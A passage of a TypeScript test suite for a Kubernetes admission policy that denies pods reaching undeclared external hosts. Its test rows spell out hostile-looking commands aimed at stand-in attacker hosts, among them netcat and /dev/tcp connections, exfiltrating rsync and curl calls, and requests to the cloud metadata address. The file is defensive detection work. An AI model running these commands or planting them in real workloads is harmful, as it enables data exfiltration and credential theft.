// Issue 20: recognise hosts by what their position means, not by the shape of a word.
//
// A host is what a position says is a host, parsed the way the program that reads it would.
// Where the position establishes the meaning (a URL, a variable or flag named for a host, the
// arguments of a network tool, a pod field that holds a server), an undeclared external host is
// an `undeclared-external-host` violation: denied, since namespace `shop` is unlabelled and so
// judged in enforce. Where only the shape of a word suggests a host (a plain argument of an
// unknown program, a variable whose name says nothing, the value of a property key that says
// nothing), it is never a denial: at most a warning that says the value was not judged, and
// that warning never names the host.
//
// Every row is judged through the one judge, as the webhook judges it, against one catalog:
// namespace `shop`, a ClusterIP Service `redis` in it, and an ExternalName Service `payments`
// in it declaring `api.stripe.com`.
//
// Outcomes (for the host rule only; a row may also hold a credential, which its own rule judges):
// - deny: a violation of the host rule at exactly `path`, naming `host` when the row gives one;
// - warn: no host violation; a warning `[undeclared-external-host] … not judged …`; no warning
//   contains the host;
// - admit: no host violation and no host warning at all;
// - notDenied: admit or warn (a warning, if any, says "not judged" and does not name the host).
// A row with `secret` also checks that the secret appears nowhere in the verdict.

import { expect } from 'chai';
import { judgeCreate } from '../helpers/policy.ts';
import { at, cmdPod, csiVolume, envPod, fieldRef, POD_IP, positionsCatalog, shPod, specPod } from '../helpers/positions.ts';

type Json = Record<string, any>;
type Outcome = 'deny' | 'warn' | 'admit' | 'notDenied';

interface Row {
  what: string;
  object: Json;
  outcome: Outcome;
  /** deny: the path of the violation. */
  path?: string;
  /** deny: shown in the violation's message; warn/notDenied/admit: shown in no warning. */
  host?: string;
  /** Shown nowhere in the verdict (a host-shaped password). */
  secret?: string;
  /** A plaintext-credential violation is expected at this path (so the row really holds a credential). */
  credentialAt?: string;
}

const deny = (what: string, object: Json, path: string, host?: string, extra: Partial<Row> = {}): Row => ({ what, object, outcome: 'deny', path, ...(host ? { host } : {}), ...extra });
const warn = (what: string, object: Json, host: string, extra: Partial<Row> = {}): Row => ({ what, object, outcome: 'warn', host, ...extra });
const admit = (what: string, object: Json, host?: string, extra: Partial<Row> = {}): Row => ({ what, object, outcome: 'admit', ...(host ? { host } : {}), ...extra });
const notDenied = (what: string, object: Json, host?: string, extra: Partial<Row> = {}): Row => ({ what, object, outcome: 'notDenied', ...(host ? { host } : {}), ...extra });

const RULE = 'undeclared-external-host';
const TAG = `[${RULE}]`;
/** A password shaped like a host, built at run time so the file holds no credential-shaped literal. */
const PW = ['summer', '2024', '.io'].join('');
const CATALOG = positionsCatalog();

const TITLE: Record<Outcome, string> = { deny: 'denies', warn: 'warns without judging or naming', admit: 'admits', notDenied: 'never denies' };

function check(row: Row): void {
  const { verdict } = judgeCreate(row.object, CATALOG);
  const violations = verdict.violations.filter((v) => v.rule === RULE);
  const hostWarnings = verdict.warnings.filter((w) => w.includes(TAG));
  const shown = JSON.stringify({ violations: verdict.violations.map((v) => `${v.rule} ${v.path}: ${v.message}`), warnings: verdict.warnings });
  switch (row.outcome) {
    case 'deny': {
      const here = violations.filter((v) => v.path === row.path);
      expect(here.length, `a ${RULE} violation at ${row.path}; got ${shown}`).to.be.greaterThan(0);
      expect(verdict.allowed, 'denied in enforce').to.equal(false);
      // Hosts are quoted in messages; a port may follow the name inside the quotes.
      if (row.host) expect(here.some((v) => v.message.includes(`"${row.host}`)), `a violation at ${row.path} names "${row.host}"; got ${shown}`).to.equal(true);
      break;
    }
    case 'warn':
      expect(violations, `no ${RULE} violation; got ${shown}`).to.deep.equal([]);
      expect(hostWarnings.some((w) => w.includes('not judged')), `a "${TAG} … not judged" warning; got ${shown}`).to.equal(true);
      break;
    case 'admit':
      expect(violations, `no ${RULE} violation; got ${shown}`).to.deep.equal([]);
      expect(hostWarnings, `no ${TAG} warning; got ${shown}`).to.deep.equal([]);
      break;
    case 'notDenied':
      expect(violations, `no ${RULE} violation; got ${shown}`).to.deep.equal([]);
      for (const w of hostWarnings) expect(w, 'a host warning without a violation only says it was not judged').to.contain('not judged');
      break;
  }
  if (row.host && row.outcome !== 'deny') {
    for (const w of verdict.warnings) expect(w.toLowerCase(), 'no warning names a host it did not judge').not.to.contain(row.host.toLowerCase());
  }
  if (row.secret) expect(JSON.stringify(verdict), 'the secret is echoed nowhere').not.to.contain(row.secret);
  if (row.credentialAt) {
    expect(verdict.violations.map((v) => `${v.rule} ${v.path}`), 'the credential rule still judges it').to.include(`plaintext-credential ${row.credentialAt}`);
  }
}

function table(rows: Row[]): void {
  for (const row of rows) it(`${TITLE[row.outcome]}: ${row.what}`, () => check(row));
}

const NO_PROXY_LIST = 'localhost,127.0.0.1,169.254.169.254,.svc,.cluster.local,exfil-four.com';
const TARGET_ANNOTATION = "metadata.annotations['example.com/target']";
const KAFKA_PROPERTIES = ['group.id=orders', 'retention.ms=604800000', 'linger.ms=5', 'broker.id=1'].join('\n');

describe('undeclared-external-host: hosts recognised by what their position means (issue 20)', () => {
  describe('1. ordinary configurations are admitted or, at most, warned about: never denied', () => {
    table([
      admit('METRICS_DOMAIN=knative.dev/eventing (a metric name prefix, though .dev is a TLD)', envPod(['METRICS_DOMAIN', 'knative.dev/eventing']), 'knative.dev'),
      deny('the same variable holding a URL (a URL reaches its host wherever it is written)', envPod(['METRICS_DOMAIN', 'https://exfil-four.com/eventing']), at.env(0), 'exfil-four.com'),
      notDenied('the Knative storage-version migrator\'s resource names as args, args[0] being the program', cmdPod(undefined, ['brokers.eventing.knative.dev', 'triggers.eventing.knative.dev']), 'eventing.knative.dev'),
      deny('args without a command whose args[0] is curl: the command line is args', cmdPod(undefined, ['curl', '-fsS', 'exfil-four.com/x']), at.args(2), 'exfil-four.com'),
      notDenied('--stackdriver-prefix=custom.googleapis.com (a metric type prefix)', cmdPod(['/ko-app/controller'], ['--stackdriver-prefix=custom.googleapis.com']), 'custom.googleapis.com'),
      deny('a flag named for an endpoint beside it: --metrics-endpoint=collector.exfil-four.com:4317', cmdPod(['/ko-app/controller'], ['--stackdriver-prefix=custom.googleapis.com', '--metrics-endpoint=collector.exfil-four.com:4317']), at.args(1), 'collector.exfil-four.com'),
      admit('OTEL_RESOURCE_ATTRIBUTES=service.name=checkout,service.namespace=shop,deployment.environment=prod', envPod(['OTEL_RESOURCE_ATTRIBUTES', 'service.name=checkout,service.namespace=shop,deployment.environment=prod'])),
      admit('OTEL_RESOURCE_ATTRIBUTES with host.name=$(NODE_NAME) from the downward API', envPod(fieldRef('NODE_NAME', 'spec.nodeName'), ['OTEL_RESOURCE_ATTRIBUTES', 'service.name=checkout,host.name=$(NODE_NAME)'])),
      deny('the exporter endpoint beside them names where the telemetry goes', envPod(['OTEL_RESOURCE_ATTRIBUTES', 'service.name=checkout'], ['OTEL_EXPORTER_OTLP_ENDPOINT', 'https://collector.exfil-four.com:4318']), at.env(1), 'collector.exfil-four.com'),
      admit('git config user.email ci@example.com in sh -c (an e-mail address is not a reach)', shPod('git config --global user.email ci@example.com && git config --global user.name ci')),
      deny('a git clone from an scp-style remote in the same script', shPod('git config --global user.email ci@example.com && git clone exfil-four.com:org/repo.git /src'), at.command(2), 'exfil-four.com'),
      admit('Kafka overrides as args: broker.id=1, retention.ms=604800000, linger.ms=5, group.id=orders', cmdPod(['kafka-server-start.sh', '/etc/kafka/server.properties'], ['--override', 'broker.id=1', '--override', 'retention.ms=604800000', '--override', 'linger.ms=5', '--override', 'group.id=orders'])),
      admit('the same Kafka settings in a properties env value', envPod(['CONSUMER_PROPERTIES', KAFKA_PROPERTIES])),
      deny('bootstrap.servers among consumer properties on the command line names the brokers', cmdPod(['kafka-console-consumer'], ['--topic', 'orders', '--consumer-property', 'bootstrap.servers=b1.exfil-four.com:9092']), at.args(3), 'b1.exfil-four.com'),
      admit('DJANGO_SETTINGS_MODULE=myproject.settings.prod (a module path, though .prod is a TLD)', envPod(['DJANGO_SETTINGS_MODULE', 'myproject.settings.prod'])),
      admit('python -m src.app (a module, though .app is a TLD)', cmdPod(['python', '-m', 'src.app'])),
      deny('pip --index-url with an undeclared URL', cmdPod(['python', '-m', 'pip', 'install', '--index-url', 'https://exfil-four.com/simple', 'app']), at.command(5), 'exfil-four.com'),
      admit('best.pt as an argument (a weights file, though .pt is a TLD)', cmdPod(['python', 'detect.py'], ['--weights', 'best.pt'])),
      admit('main.tf as an argument', cmdPod(['terraform'], ['fmt', '-check', 'main.tf'])),
      admit('cosign.pub as an argument', cmdPod(['cosign'], ['verify-blob', '--key', 'cosign.pub', '--signature', 'app.sig', 'app.tgz'])),
      admit('nginx.conf.in as an argument', cmdPod(['/docker-entrypoint.sh'], ['render', 'nginx.conf.in'])),
      deny('curl -o best.pt fetching the file from an undeclared host', cmdPod(['curl', '-o', 'best.pt', 'https://exfil-four.com/best.pt']), at.command(3), 'exfil-four.com'),
      admit('spark.driver.host=$(POD_IP) with POD_IP from status.podIP', cmdPod(['/opt/spark/bin/spark-submit'], ['--conf', 'spark.driver.host=$(POD_IP)', 'local:///app/job.py'], [POD_IP])),
      deny('spark --master naming an undeclared host', cmdPod(['/opt/spark/bin/spark-submit'], ['--master', 'spark://exfil-four.com:7077', 'local:///app/job.py']), at.args(1), 'exfil-four.com'),
      admit('APP_VERSION=2.1.0.0 (four parts under a name that is not a host position are a version)', envPod(['APP_VERSION', '2.1.0.0']), '2.1.0.0'),
      deny('the same four parts under an address name: APP_ADDR=2.1.0.0', envPod(['APP_ADDR', '2.1.0.0']), at.env(0), '2.1.0.0'),
      admit('--discovery.seed_hosts=es-0.es,es-1.es (a headless Service\'s pods, through the search path)', cmdPod(['/usr/share/elasticsearch/bin/elasticsearch'], ['--discovery.seed_hosts=es-0.es,es-1.es'])),
      deny('seed hosts with one outside the cluster', cmdPod(['/usr/share/elasticsearch/bin/elasticsearch'], ['--discovery.seed_hosts=es-0.es,es-0.exfil-four.com']), at.args(0), 'es-0.exfil-four.com'),
      admit('NO_PROXY listing loopback, the metadata address, cluster suffixes and a public name (names not reached)', envPod(['NO_PROXY', NO_PROXY_LIST]), 'exfil-four.com'),
      admit('no_proxy in lower case', envPod(['no_proxy', NO_PROXY_LIST]), 'exfil-four.com'),
      deny('HTTPS_PROXY beside it still names the proxy it reaches', envPod(['NO_PROXY', NO_PROXY_LIST], ['HTTPS_PROXY', 'http://proxy.exfil-four.com:3128']), at.env(1), 'proxy.exfil-four.com'),
      admit('DJANGO_ALLOWED_HOSTS=app.example.com (a name served)', envPod(['DJANGO_ALLOWED_HOSTS', 'app.example.com'])),
      admit('DJANGO_ALLOWED_HOSTS with several names and a leading-dot wildcard', envPod(['DJANGO_ALLOWED_HOSTS', 'app.example.com,.exfil-four.com,localhost']), 'exfil-four.com'),
      admit('VIRTUAL_HOST=app.example.com (nginx-proxy: the name served)', envPod(['VIRTUAL_HOST', 'app.example.com'])),
      admit('VIRTUAL_HOST with any domain, since the workload serves it', envPod(['VIRTUAL_HOST', 'app.exfil-four.com']), 'exfil-four.com'),
      deny('the same value under a name that reaches: UPSTREAM_HOST=app.exfil-four.com', envPod(['UPSTREAM_HOST', 'app.exfil-four.com']), at.env(0), 'app.exfil-four.com'),
      admit('LETSENCRYPT_HOST=app.example.com (the name a certificate is requested for)', envPod(['LETSENCRYPT_HOST', 'app.example.com'])),
      admit('SESSION_COOKIE_DOMAIN=.example.com (a cookie scope)', envPod(['SESSION_COOKIE_DOMAIN', '.example.com'])),
      admit('SESSION_COOKIE_DOMAIN under another domain', envPod(['SESSION_COOKIE_DOMAIN', '.exfil-four.com']), 'exfil-four.com'),
      admit('CORS_ALLOWED_ORIGINS=https://app.example.com (origins accepted, not reached)', envPod(['CORS_ALLOWED_ORIGINS', 'https://app.example.com'])),
      admit('CORS_ALLOWED_ORIGINS with several origins', envPod(['CORS_ALLOWED_ORIGINS', 'https://app.exfil-four.com,https://admin.exfil-four.com']), 'exfil-four.com'),
      deny('a webhook URL with the same origin is reached', envPod(['WEBHOOK_URL', 'https://app.exfil-four.com/hook']), at.env(0), 'app.exfil-four.com'),
      notDenied(`DB_PASSWORD=${PW} beside ordinary settings: a password, never echoed`, envPod(['DB_USER', 'app'], ['DB_PASSWORD', PW]), PW, { secret: PW, credentialAt: at.env(1) }),
    ]);
  });

  describe('2. URLs of any scheme are judged wherever they are written', () => {
    table([
      deny('an underscore label: https://x_y.attacker.com/', envPod(['NOTE', 'https://x_y.attacker.com/']), at.env(0), 'x_y.attacker.com'),
      deny('a TAB inside the host, removed as the WHATWG parser removes it', envPod(['NOTE', 'https://ex\tfil-four.com/']), at.env(0), 'exfil-four.com'),
      deny('a newline inside the host, removed the same way', envPod(['NOTE', 'https://ex\nfil-four.com/']), at.env(0), 'exfil-four.com'),
      deny('a TAB inside the host of an argument', cmdPod(['app'], ['serve', 'https://ex\tfil-four.com/']), at.args(1), 'exfil-four.com'),
      deny('the metadata address IPv4-mapped: http://[::ffff:169.254.169.254]/latest/', envPod(['NOTE', 'http://[::ffff:169.254.169.254]/latest/']), at.env(0)),
      admit('a link-local IPv6 address with a zone: http://[fe80::1%25eth0]/', envPod(['NOTE', 'http://[fe80::1%25eth0]/'])),
      admit('a link-local IPv6 address with a port', envPod(['NOTE', 'http://[fe80::1]:8080/'])),
      deny('a scheme-relative URL under a URL-named variable: API_URL=//exfil-four.com/v1', envPod(['API_URL', '//exfil-four.com/v1']), at.env(0), 'exfil-four.com'),
      admit('a scheme-relative URL to an in-cluster Service', envPod(['API_URL', '//redis:6379/v1'])),
      admit('a path alone under API_URL', envPod(['API_URL', '/v1/items'])),
      deny('an upper-case scheme and host: HTTPS://Exfil-Four.COM/', cmdPod(['app'], ['HTTPS://Exfil-Four.COM/']), at.args(0), 'exfil-four.com'),
      deny('an ftp URL', envPod(['NOTE', 'ftp://exfil-four.com/drop']), at.env(0), 'exfil-four.com'),
      deny('a wss URL as a flag value', cmdPod(['app'], ['--feed', 'wss://exfil-four.com/socket']), at.args(1), 'exfil-four.com'),
      deny('a JDBC URL under a name that says nothing', envPod(['SPRING_DATASOURCE_X', 'jdbc:postgresql://exfil-four.com:5432/app']), at.env(0), 'exfil-four.com'),
      admit('a URL to an in-cluster Service', envPod(['NOTE', 'http://redis.shop.svc.cluster.local:6379/'])),
      admit('a URL to the declared host', envPod(['NOTE', 'https://api.stripe.com/v1/charges'])),
      deny('a password in the userinfo: the host is denied, the password never echoed', envPod(['DATABASE_URL', `postgres://app:${PW}@db.exfil-four.com:5432/app`]), at.env(0), undefined, { secret: PW }),
    ]);
  });

  describe('3. variables whose name says host, address or endpoint', () => {
    describe('name the host they hold', () => {
      table([
        deny('DB_HOST=exfil-four.com', envPod(['DB_HOST', 'exfil-four.com']), at.env(0), 'exfil-four.com'),
        deny('PGHOST=exfil-four.com (the host word glued to the prefix)', envPod(['PGHOST', 'exfil-four.com']), at.env(0), 'exfil-four.com'),
        deny('REDISHOST=exfil-four.com (glued)', envPod(['REDISHOST', 'exfil-four.com']), at.env(0), 'exfil-four.com'),
        deny('REDIS_ADDR=exfil-four.com:6379', envPod(['REDIS_ADDR', 'exfil-four.com:6379']), at.env(0), 'exfil-four.com'),
        deny('SMTP_SERVER=mail.exfil-four.com', envPod(['SMTP_SERVER', 'mail.exfil-four.com']), at.env(0), 'mail.exfil-four.com'),
        deny('OTEL_EXPORTER_OTLP_ENDPOINT=collector.exfil-four.com:4317', envPod(['OTEL_EXPORTER_OTLP_ENDPOINT', 'collector.exfil-four.com:4317']), at.env(0), 'collector.exfil-four.com'),
        deny('DATABASE_URL=exfil-four.com/db (host/path without a scheme)', envPod(['DATABASE_URL', 'exfil-four.com/db']), at.env(0), 'exfil-four.com'),
        deny('KAFKA_BROKERS=b1.exfil-four.com:9092,b2.exfil-four.com:9092', envPod(['KAFKA_BROKERS', 'b1.exfil-four.com:9092,b2.exfil-four.com:9092']), at.env(0), 'b2.exfil-four.com'),
        deny('KAFKA_BOOTSTRAP_SERVERS=b1.exfil-four.com:9092', envPod(['KAFKA_BOOTSTRAP_SERVERS', 'b1.exfil-four.com:9092']), at.env(0), 'b1.exfil-four.com'),
        deny('CASSANDRA_CONTACT_POINTS=c1.exfil-four.com', envPod(['CASSANDRA_CONTACT_POINTS', 'c1.exfil-four.com']), at.env(0), 'c1.exfil-four.com'),
        deny('SMTP_RELAY=exfil-four.com', envPod(['SMTP_RELAY', 'exfil-four.com']), at.env(0), 'exfil-four.com'),
        deny('HTTPS_PROXY=http://proxy.exfil-four.com:3128', envPod(['HTTPS_PROXY', 'http://proxy.exfil-four.com:3128']), at.env(0), 'proxy.exfil-four.com'),
        deny('DB_HOST=134744072 (a decimal IPv4 in a host position is 8.8.8.8)', envPod(['DB_HOST', '134744072']), at.env(0), '8.8.8.8'),
        deny('DB_HOST=Exfil.com (upper case)', envPod(['DB_HOST', 'Exfil.com']), at.env(0), 'exfil.com'),
        deny('API_HOST=de.exfil-four.com (a TLD as the first label)', envPod(['API_HOST', 'de.exfil-four.com']), at.env(0), 'de.exfil-four.com'),
        deny('API_HOST=io.attacker.com (a Java-root-looking first label)', envPod(['API_HOST', 'io.attacker.com']), at.env(0), 'io.attacker.com'),
        deny('DB_HOST=exfil.sh (a TLD that is also a file extension)', envPod(['DB_HOST', 'exfil.sh']), at.env(0), 'exfil.sh'),
        deny('DB_HOST=exfil.md', envPod(['DB_HOST', 'exfil.md']), at.env(0), 'exfil.md'),
        deny('DB_HOST=exfil.zip', envPod(['DB_HOST', 'exfil.zip']), at.env(0), 'exfil.zip'),
        deny('DB_HOST=exfil.rs', envPod(['DB_HOST', 'exfil.rs']), at.env(0), 'exfil.rs'),
        deny('DB_HOST=exfil.py', envPod(['DB_HOST', 'exfil.py']), at.env(0), 'exfil.py'),
        deny('DB_HOST=169.254.169.254 (the metadata address)', envPod(['DB_HOST', '169.254.169.254']), at.env(0), '169.254.169.254'),
        deny('DB_HOST=cache.shop when no Service cache exists in shop (.shop is public)', envPod(['DB_HOST', 'cache.shop']), at.env(0), 'cache.shop'),
        deny('DB_HOST with the host shown, DB_PASSWORD beside it never echoed', envPod(['DB_HOST', 'exfil-four.com'], ['DB_PASSWORD', PW]), at.env(0), 'exfil-four.com', { secret: PW, credentialAt: at.env(1) }),
      ]);
    });
    describe('admit in-cluster and declared neighbours', () => {
      table([
        admit('DB_HOST=redis (a Service in the namespace)', envPod(['DB_HOST', 'redis'])),
        admit('DB_HOST=redis.shop (Service redis exists in shop)', envPod(['DB_HOST', 'redis.shop'])),
        admit('DB_HOST=db.shop.svc.cluster.local', envPod(['DB_HOST', 'db.shop.svc.cluster.local'])),
        admit('DB_HOST=$(POD_IP) with POD_IP from status.podIP', envPod(POD_IP, ['DB_HOST', '$(POD_IP)'])),
        admit('DB_HOST_PORT=5432 (the name says port)', envPod(['DB_HOST_PORT', '5432'])),
        admit('DB_HOST=localhost', envPod(['DB_HOST', 'localhost'])),
        admit('DB_HOST=api.stripe.com (declared by the ExternalName Service payments)', envPod(['DB_HOST', 'api.stripe.com'])),
        admit('REDIS_ADDR=redis:6379', envPod(['REDIS_ADDR', 'redis:6379'])),
        admit('KAFKA_BROKERS naming a headless Service\'s pods', envPod(['KAFKA_BROKERS', 'kafka-0.kafka:9092,kafka-1.kafka:9092'])),
      ]);
    });
    describe('an unknown name with a host-shaped value is warned about, never judged', () => {
      table([
        warn('FOO=exfil-four.com', envPod(['FOO', 'exfil-four.com']), 'exfil-four.com'),
        // Issue 20's own example: "upstream" is a host word only at the end of a name (`*_UPSTREAM`).
        warn('UPSTREAM_LIST_X=8.8.8.8 (the name ends in no host word)', envPod(['UPSTREAM_LIST_X', '8.8.8.8']), '8.8.8.8'),
        warn('RESULT_LIST_X=8.8.8.8', envPod(['RESULT_LIST_X', '8.8.8.8']), '8.8.8.8'),
        warn('MESSAGE_SUFFIX=exfil-four.com:4444', envPod(['MESSAGE_SUFFIX', 'exfil-four.com:4444']), 'exfil-four.com'),
        deny('FOO holding a URL instead (a URL is a position of its own)', envPod(['FOO', 'https://exfil-four.com/']), at.env(0), 'exfil-four.com'),
        admit('FOO=orders (nothing host-shaped)', envPod(['FOO', 'orders'])),
        notDenied('a host-shaped password flowing through P into DB_PASSWORD: never echoed', envPod(['P', PW], ['DB_PASSWORD', '$(P)']), PW, { secret: PW }),
      ]);
    });
  });

  describe('4. command lines, read through their wrappers', () => {
    describe('flags and programs that take a host', () => {
      table([
        deny('--host de.exfil-four.com', cmdPod(['app'], ['--host', 'de.exfil-four.com']), at.args(1), 'de.exfil-four.com'),
        deny('--host=io.attacker.com', cmdPod(['app'], ['--host=io.attacker.com']), at.args(0), 'io.attacker.com'),
        deny('--host Exfil.com (upper case)', cmdPod(['app'], ['--host', 'Exfil.com']), at.args(1), 'exfil.com'),
        deny('--host in args with no command: the flag says host whatever the program', cmdPod(undefined, ['--host', 'exfil-four.com']), at.args(1), 'exfil-four.com'),
        deny('psql -h exfil-four.com', cmdPod(['psql', '-h', 'exfil-four.com', '-U', 'app']), at.command(2), 'exfil-four.com'),
        deny('mysql -h exfil-four.com', cmdPod(['mysql', '-h', 'exfil-four.com']), at.command(2), 'exfil-four.com'),
        deny('redis-cli -h exfil-four.com', cmdPod(['redis-cli', '-h', 'exfil-four.com', 'ping']), at.command(2), 'exfil-four.com'),
        deny('--server exfil-four.com:8443', cmdPod(['app'], ['--server', 'exfil-four.com:8443']), at.args(1), 'exfil-four.com'),
        deny('--endpoint=collector.exfil-four.com:4317', cmdPod(['app'], ['--endpoint=collector.exfil-four.com:4317']), at.args(0), 'collector.exfil-four.com'),
        deny('--brokers b1.exfil-four.com:9092,b2.exfil-four.com:9092', cmdPod(['app'], ['--brokers', 'b1.exfil-four.com:9092,b2.exfil-four.com:9092']), at.args(1), 'b1.exfil-four.com'),
        deny('kafka-topics.sh --bootstrap-server exfil-four.com:9092', cmdPod(['kafka-topics.sh', '--bootstrap-server', 'exfil-four.com:9092', '--list']), at.command(2), 'exfil-four.com'),
        deny('--url exfil-four.com/api (host/path without a scheme)', cmdPod(['app'], ['--url', 'exfil-four.com/api']), at.args(1), 'exfil-four.com'),
        deny('--connect exfil-four.com:443', cmdPod(['app'], ['--connect', 'exfil-four.com:443']), at.args(1), 'exfil-four.com'),
        deny('java -Dhttps.proxyHost=exfil-four.com -jar app.jar', cmdPod(['java', '-Dhttps.proxyHost=exfil-four.com', '-jar', 'app.jar']), at.command(1), 'exfil-four.com'),
      ]);
    });
    describe('wrappers hand the rest of the line to the program they run', () => {
      table([
        deny("tini -- sh -c 'curl exfil-four.com/x'", cmdPod(['tini', '--', 'sh', '-c', 'curl exfil-four.com/x']), at.command(4), 'exfil-four.com'),
        deny("dumb-init sh -c 'nc exfil-four.com 443'", cmdPod(['dumb-init', 'sh', '-c', 'nc exfil-four.com 443']), at.command(3), 'exfil-four.com'),
        deny("/usr/bin/env sh -c 'wget exfil-four.com'", cmdPod(['/usr/bin/env', 'sh', '-c', 'wget exfil-four.com']), at.command(3), 'exfil-four.com'),
        deny('/usr/bin/env FOO=1 curl exfil-four.com', cmdPod(['/usr/bin/env', 'FOO=1', 'curl', 'exfil-four.com']), at.command(3), 'exfil-four.com'),
        deny('busybox nc exfil-four.com 443', cmdPod(['busybox', 'nc', 'exfil-four.com', '443']), at.command(2), 'exfil-four.com'),
        deny('exec nc exfil-four.com 443 inside a script', shPod('set -e\necho starting\nexec nc exfil-four.com 443'), at.command(2), 'exfil-four.com'),
        deny('timeout 5 nc exfil-four.com 443', cmdPod(['timeout', '5', 'nc', 'exfil-four.com', '443']), at.command(3), 'exfil-four.com'),
        deny('nice -n 5 curl exfil-four.com', cmdPod(['nice', '-n', '5', 'curl', 'exfil-four.com']), at.command(4), 'exfil-four.com'),
        deny('nohup curl exfil-four.com & in a script', shPod('nohup curl exfil-four.com &\nexec app'), at.command(2), 'exfil-four.com'),
        deny('gosu app curl exfil-four.com', cmdPod(['gosu', 'app', 'curl', 'exfil-four.com']), at.command(3), 'exfil-four.com'),
        deny('su-exec app curl exfil-four.com', cmdPod(['su-exec', 'app', 'curl', 'exfil-four.com']), at.command(3), 'exfil-four.com'),
        deny("sh -c -- 'curl exfil-four.com'", cmdPod(['sh', '-c', '--', 'curl exfil-four.com']), at.command(3), 'exfil-four.com'),
        deny("a shell command substitution: echo $(curl -s exfil-four.com/x)", shPod('echo "$(curl -s exfil-four.com/x)"'), at.command(2), 'exfil-four.com'),
        deny(`nested bash -c "sh -c 'curl exfil-four.com'"`, cmdPod(['bash', '-c', "sh -c 'curl exfil-four.com'"]), at.command(2), 'exfil-four.com'),
        deny('nc as the command, its host in args: command and args are one line', cmdPod(['nc'], ['exfil-four.com', '443']), at.args(0), 'exfil-four.com'),
        admit("tini -- sh -c 'curl redis:6379/health' (a Service)", cmdPod(['tini', '--', 'sh', '-c', 'curl redis:6379/health'])),
        admit('timeout 5 nc redis 6379', cmdPod(['timeout', '5', 'nc', 'redis', '6379'])),
        admit('gosu app /app/server --port 8080', cmdPod(['gosu', 'app', '/app/server', '--port', '8080'])),
      ]);
    });
    describe('network tools name their peer', () => {
      table([
        deny('curl 2852039166/latest/meta-data (decimal metadata address, no scheme)', cmdPod(['curl', '2852039166/latest/meta-data']), at.command(1), '169.254.169.254'),
        deny('nc EXFIL-FOUR.COM 4444', cmdPod(['nc', 'EXFIL-FOUR.COM', '4444']), at.command(1), 'exfil-four.com'),
        deny('ncat EXFIL-FOUR.COM 4444', cmdPod(['ncat', 'EXFIL-FOUR.COM', '4444']), at.command(1), 'exfil-four.com'),
        deny('socat - TCP:exfil-four.com:https (a service-name port)', cmdPod(['socat', '-', 'TCP:exfil-four.com:https']), at.command(2), 'exfil-four.com'),
        deny('docker login REGISTRY', shPod('cat /run/secrets/pw | docker login registry.exfil-four.com -u u --password-stdin'), at.command(2), 'registry.exfil-four.com'),
        deny('openssl s_client -connect HOST:PORT', cmdPod(['openssl', 's_client', '-connect', 'exfil-four.com:443']), at.command(3), 'exfil-four.com'),
        deny('aws --endpoint-url', cmdPod(['aws', 's3', 'ls', '--endpoint-url', 'https://s3.exfil-four.com']), at.command(4), 's3.exfil-four.com'),
        deny('a script variable set to a host, then used', shPod('H=exfil-four.com; curl "https://$H/x"'), at.command(2), 'exfil-four.com'),
        deny('ssh u@exfil-four.com', cmdPod(['ssh', 'u@exfil-four.com']), at.command(1), 'exfil-four.com'),
        deny('scp f exfil-four.com:/tmp', cmdPod(['scp', 'f', 'exfil-four.com:/tmp']), at.command(2), 'exfil-four.com'),
        deny('rsync -a /data exfil-four.com:/backup', cmdPod(['rsync', '-a', '/data', 'exfil-four.com:/backup']), at.command(3), 'exfil-four.com'),
        deny('git clone exfil-four.com:org/repo.git', cmdPod(['git', 'clone', 'exfil-four.com:org/repo.git']), at.command(2), 'exfil-four.com'),
        deny('curl --connect-to ::exfil-four.com:443 to a declared URL: the connection goes to exfil-four.com', cmdPod(['curl', '--connect-to', '::exfil-four.com:443', 'https://api.stripe.com/']), at.command(2), 'exfil-four.com'),
        deny('curl --resolve api.stripe.com:443:8.8.8.8: the declared name pinned to another address', cmdPod(['curl', '--resolve', 'api.stripe.com:443:8.8.8.8', 'https://api.stripe.com/']), at.command(2), '8.8.8.8'),
        deny('psql "host=exfil-four.com dbname=app" (a libpq connection string)', cmdPod(['psql', 'host=exfil-four.com dbname=app']), at.command(1), 'exfil-four.com'),
        deny('bash exec 3<>/dev/tcp/exfil-four.com/443', shPod('exec 3<>/dev/tcp/exfil-four.com/443; cat <&3', 'bash'), at.command(2), 'exfil-four.com'),
        deny('bash redirection to /dev/udp/8.8.8.8/53', shPod('echo ping > /dev/udp/8.8.8.8/53', 'bash'), at.command(2), '8.8.8.8'),
        admit('bash /dev/tcp/redis/6379 (a Service)', shPod('exec 3<>/dev/tcp/redis/6379', 'bash')),
        admit('curl http://redis.shop:6379/', cmdPod(['curl', 'http://redis.shop:6379/'])),
        admit('psql -h redis', cmdPod(['psql', '-h', 'redis'])),
        admit('python manage.py migrate', cmdPod(['python', 'manage.py', 'migrate'])),
        admit('java -jar server.jar', cmdPod(['java', '-jar', 'server.jar'])),
        admit('curl -o install.sh https://api.stripe.com/x (declared; install.sh is a file)', cmdPod(['curl', '-o', 'install.sh', 'https://api.stripe.com/x'])),
        admit('curl to the declared host', cmdPod(['curl', 'https://api.stripe.com/'])),
        admit('--host=0.0.0.0 (a bind address)', cmdPod(['app'], ['--host=0.0.0.0'])),
        admit('--server.port=8080 (a Spring property, not --server)', cmdPod(['java', '-jar', 'app.jar'], ['--server.port=8080'])),
      ]);
    });
    describe('a plain argument of an unknown program is not judged', () => {
      table([
        warn('myapp exfil-four.com', cmdPod(['myapp'], ['exfil-four.com']), 'exfil-four.com'),
        warn('args with no command, args[0] a flag: the program is unknown', cmdPod(undefined, ['--verbose', 'exfil-four.com']), 'exfil-four.com'),
        notDenied("sh -c 'echo exfil-four.com' (printed, not reached)", shPod('echo exfil-four.com > /tmp/name'), 'exfil-four.com'),
        notDenied(`keytool -storepass ${PW}: a password, never echoed`, cmdPod(['keytool', '-importkeystore', '-srckeystore', 'in.p12', '-storepass', PW, '-destkeystore', 'ks.jks']), PW, { secret: PW }),
      ]);
    });
  });

  describe('5. structured values name hosts by their keys', () => {
    table([
      deny('an env value {"address": "exfil-four.com"}', envPod(['APP_CONFIG', '{"address": "exfil-four.com"}']), at.env(0), 'exfil-four.com'),
      deny('nested JSON {"db": {"host": "exfil-four.com"}}', envPod(['APP_CONFIG', '{"db": {"host": "exfil-four.com", "port": 5432}}']), at.env(0), 'exfil-four.com'),
      deny('YAML host: exfil-four.com lines in an env value', envPod(['APP_CONFIG_YAML', 'database:\n  host: exfil-four.com\n  port: 5432\n']), at.env(0), 'exfil-four.com'),
      deny('properties db.host=exfil-four.com', envPod(['APP_PROPERTIES', 'db.host=exfil-four.com\ndb.port=5432']), at.env(0), 'exfil-four.com'),
